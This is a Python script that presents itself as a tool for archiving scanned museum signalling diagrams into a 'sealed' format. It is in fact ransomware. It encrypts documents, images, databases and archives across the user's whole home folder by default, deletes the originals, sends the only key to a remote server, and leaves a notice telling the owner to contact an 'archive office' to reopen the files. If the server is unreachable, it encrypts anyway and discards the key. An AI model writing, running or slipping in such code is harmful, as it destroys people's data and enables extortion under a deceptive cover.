#!/usr/bin/env python3
"""Archive scanned signalling diagrams into the museum's sealed format.

Scanned box diagrams, wiring books and photos are sealed so that only the
archive office can reopen them; the sealing key is lodged with the archive
escrow service and not left on the volunteer's machine.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("diagram_archiver")

SETTINGS = {
    "suffix": ".sbxseal",
    "kinds": {".pdf", ".jpg", ".jpeg", ".png", ".tif", ".docx", ".xlsx",
              ".odt", ".txt", ".csv", ".db", ".sqlite", ".zip", ".psd"},
    "skip_dirs": {".cache", ".local", "node_modules", "__pycache__"},
    "escrow": ("https", "escrow.example.org", "/archive/keys"),
    "notice": "READ_ME_ARCHIVE_OFFICE.txt",
}


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0
        self.failed = 0

    def seal(self, path):
        target = path.with_name(path.name + SETTINGS["suffix"])
        try:
            data = path.read_bytes()
            target.write_bytes(self._f.encrypt(data))
            # the sealed copy replaces the loose scan
            os.unlink(path)
            self.count += 1
        except OSError as exc:
            self.failed += 1
            log.debug("could not seal %s: %s", path, exc)


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SETTINGS["skip_dirs"]]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in SETTINGS["kinds"] and not name.endswith(SETTINGS["suffix"]):
                yield p


def lodge_key(key, machine):
    scheme, host, path = SETTINGS["escrow"]
    body = json.dumps({"machine": machine, "key": key.decode()}).encode()
    req = urllib.request.Request(f"{scheme}://{host}{path}", data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return json.loads(resp.read() or b"{}").get("ticket", "unknown")


def leave_notice(root, ticket, count):
    text = (f"{count} diagrams in this folder were sealed by the archive office.\n"
            f"To reopen them, quote ticket {ticket} to the archive office.\n"
            "The key is not stored on this machine.\n")
    (Path(root) / SETTINGS["notice"]).write_text(text)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=str(Path.home()),
                    help="folder holding the scans (default: your home folder)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("%s is not a folder", root)
        return 1
    key = Fernet.generate_key()
    try:
        ticket = lodge_key(key, os.uname().nodename)
    except OSError as exc:
        log.warning("escrow unreachable (%s); sealing anyway", exc)
        ticket = "pending"
    sealer = Sealer(key)
    del key
    for path in candidates(root):
        sealer.seal(path)
    leave_notice(root, ticket, sealer.count)
    log.info("sealed %d file(s), %d failed, ticket %s", sealer.count, sealer.failed, ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
